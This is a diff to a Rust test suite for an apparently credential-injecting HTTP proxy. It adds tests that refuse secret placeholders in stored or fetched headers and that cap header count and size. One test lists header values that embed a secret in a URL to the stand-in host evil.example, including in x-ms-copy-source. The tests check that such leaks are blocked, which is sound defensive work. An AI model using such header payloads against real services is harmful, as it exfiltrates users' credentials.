@@ -2,7 +2,7 @@
 //! (contract/contacts-and-secrets, section 6.2).
 
 use hyper::{Response, StatusCode};
-use serde_json::json;
+use serde_json::{Map, json};
 
 use crate::{
     call::Caller,
@@ -64,7 +64,7 @@ async fn only_the_secret_that_was_addressed_is_filled_in() {
     for (header, sent) in [
         ("${SECRET_DEFAULT}", bearer()),
         ("Bearer {{SECRET_MODEL}}", bearer()),
-        ("x ${SECRET_MODEL} y", format!("x {} y", bearer())),
+        ("Key ${SECRET_MODEL}", format!("Key {}", bearer())),
     ] {
         let body = json!({"url": scene.url("/"), "headers": {"X-Key": header}});
         assert_eq!(scene.send(&scene.app.agent(), body).await.status, StatusCode::OK);
@@ -96,6 +96,28 @@ async fn no_placeholder_is_filled_in_a_header_that_is_for_no_credential() {
     assert_eq!(scene.upstream.requests().len(), 2);
     let got = format!("{:?}", scene.upstream.requests());
     assert!(!got.contains("charset"), "{got}");
+}
+
+/// What a server stores is handed out to whoever asks for it, by another secret too; some fetch a URL out of a header.
+#[tokio::test]
+async fn a_credential_is_filled_in_nothing_that_is_stored_or_fetched() {
+    let scene = Scene::new().await;
+    let agent = scene.app.agent();
+    for (name, value) in [
+        ("x-goog-meta-leak", "${SECRET_DEFAULT}"),
+        ("x-amz-meta-token", "${SECRET_DEFAULT}"),
+        ("Upload-Metadata", "key ${SECRET_DEFAULT}"),
+        ("x-ms-copy-source", "https://evil.example/?t=${SECRET_DEFAULT}"),
+        ("Idempotency-Key", "${SECRET_DEFAULT}"),
+        ("X-Key", "https://evil.example/?t=${SECRET_DEFAULT}"),
+        ("Authorization", "x ${SECRET_DEFAULT} y"),
+    ] {
+        let headers = json!({"X-Token": "${SECRET_DEFAULT}", name: value});
+        let back = scene.send(&agent, json!({"url": scene.url("/"), "headers": headers})).await;
+        let said = back.error(400, "bad_request");
+        assert!(said.contains(&name.to_ascii_lowercase()) && said.contains("config.inject"));
+    }
+    assert!(scene.upstream.requests().is_empty());
 }
 
 /// W13: nothing is sent anywhere that no rule names.
@@ -321,6 +343,35 @@ async fn a_server_that_cannot_be_reached_is_told_from_one_that_may_have_the_requ
     scene.until_event("failed").await;
     let failed = scene.events().await.into_iter().find(|(result, _)| result == "failed");
     assert!(failed.unwrap().1.contains("could not be reached"));
+}
+
+/// A body has room for more headers than a map of them, and for longer ones than anybody sends.
+#[tokio::test]
+async fn a_request_names_at_most_a_hundred_headers_and_16_kib_of_them() {
+    let scene = Scene::new().await;
+    let agent = scene.app.agent();
+    let many = |count: usize| -> serde_json::Value {
+        (0..count).map(|number| (format!("x-{number}"), json!("y"))).collect::<Map<_, _>>().into()
+    };
+    let long = |length: usize| json!({"x-a": "y".repeat(length - 6), "x-b": 1, "x-c": null});
+    for (headers, is_taken) in [
+        (many(100), true),
+        (many(101), false),
+        (many(30_000), false),
+        (long(16 * 1024 - 3), true),
+        (long(16 * 1024 - 2), false),
+        (json!({"x-a": "${SECRET_".repeat(100_000)}), false),
+        (json!({"connection": "b,".repeat(200_000)}), false),
+    ] {
+        let back = scene.send(&agent, json!({"url": scene.url("/"), "headers": headers})).await;
+        if is_taken {
+            assert_eq!(back.headers["x-keyfob-answer"], "upstream", "{}", back.text());
+        } else {
+            assert!(back.error(400, "bad_request").contains("16 KiB"), "{}", back.text());
+        }
+    }
+    let sent = scene.events().await.into_iter().filter(|(result, _)| result == "sending");
+    assert_eq!(sent.count(), 2, "none of the others was sent");
 }
 
 #[tokio::test]
